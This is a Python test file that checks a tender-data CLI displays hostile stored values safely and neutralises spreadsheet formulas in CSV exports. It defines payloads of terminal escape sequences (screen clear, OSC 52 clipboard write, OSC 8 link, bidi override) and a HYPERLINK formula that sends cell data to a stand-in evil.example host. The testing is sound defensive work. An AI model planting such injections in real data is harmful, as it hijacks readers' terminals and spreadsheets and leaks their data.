"""Data that attacks the person reading it, through the real `tenders` commands: markup and
terminal escape sequences in errors, titles, reasons and sources, formulas in the CSV. The
tables show them as text; the machine formats keep every value whole."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

import orjson
import pytest

from configs.config import Settings
from src.domain.runs.request import IngestRequest
from src.domain.runs.services import FeedService, RunService
from src.domain.tender.schemas import RejectedRecord, UpsertCounts
from src.domain.tender.services import TenderService
from src.infra.database import create_engine, create_session_factory
from tests.support.api import BASE_TIME, record
from tests.support.processes import run_cli

pytestmark = pytest.mark.slow

# An error with markup that crashed `tenders runs`, a title that clears the screen, writes
# the clipboard (OSC 52) and plants a link (OSC 8), a C1 CSI and a bidi override.
HOSTILE = (
    "[/] \x1b[2J\x1b[H \x1b]52;c;ZXZpbA==\x07 \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\ "
    "\x9b31m \u202eevil"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Apri")'


async def seed(database_url: str) -> uuid.UUID:
    """A failed run with a hostile error and rejection, a tender whose title changed to a
    hostile one (so it has history and a change), and a feed with a hostile source."""
    engine = create_engine(Settings(database_url=database_url))
    sessions = create_session_factory(engine)
    run_id = uuid.uuid4()
    try:
        async with sessions() as session, session.begin():
            await RunService.start(
                session, IngestRequest(HOSTILE, run_id=run_id), job_id="j1", max_attempts=5
            )
            await RunService.record_batch(
                session,
                run_id,
                source=HOSTILE,
                counts=UpsertCounts(),
                rejected=[RejectedRecord(reason=HOSTILE, position=HOSTILE, snippet=HOSTILE)],
                records_done=1,
            )
            await RunService.finish(session, run_id, error=HOSTILE)
            await FeedService.add(session, source=HOSTILE, format=None, interval_seconds=600)
        async with sessions() as session, session.begin():
            await TenderService.upsert_many(session, [record(1, title=FORMULA)])
        later = BASE_TIME + timedelta(days=10)
        async with sessions() as session, session.begin():
            changed = record(1, title=FORMULA + HOSTILE, source_updated_at=later)
            await TenderService.upsert_many(session, [changed])
    finally:
        await engine.dispose()
    return run_id


def shown_safely(env: dict[str, str], *args: str) -> str:
    result = run_cli(env, *args)
    assert result.returncode == 0, (args, result.stderr)
    for control in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert control not in result.stdout, (args, control, result.stdout)
    assert "\\x1b]52;c;ZXZpbA==" in result.stdout, (args, result.stdout)
    return result.stdout


async def test_tables_show_hostile_text_as_text(env: dict[str, str]) -> None:
    run_id = await seed(env["DATABASE_URL"])
    assert "[/]" in shown_safely(env, "runs")
    assert "[/]" in shown_safely(env, "rejections", str(run_id))
    assert "[/]" in shown_safely(env, "history", "0000001A0B")
    assert "[/]" in shown_safely(env, "changes", "--since", "2000-01-01")
    assert "[/]" in shown_safely(env, "feeds", "list")

    runs = [orjson.loads(line) for line in run_cli(env, "runs", "-f", "jsonl").stdout.splitlines()]
    assert runs[0]["error"] == HOSTILE, "jsonl keeps the value whole"
    changes = run_cli(env, "changes", "--since", "2000-01-01", "--format", "jsonl").stdout
    assert orjson.loads(changes.splitlines()[0])["new_value"] == FORMULA + HOSTILE


async def test_the_csv_export_neutralises_formulas(env: dict[str, str]) -> None:
    await seed(env["DATABASE_URL"])
    exported = run_cli(env, "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    [row] = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert row["title"] == "'" + FORMULA + HOSTILE
    as_json = run_cli(env, "export").stdout
    assert orjson.loads(as_json)["title"] == FORMULA + HOSTILE, "jsonl keeps the value whole"
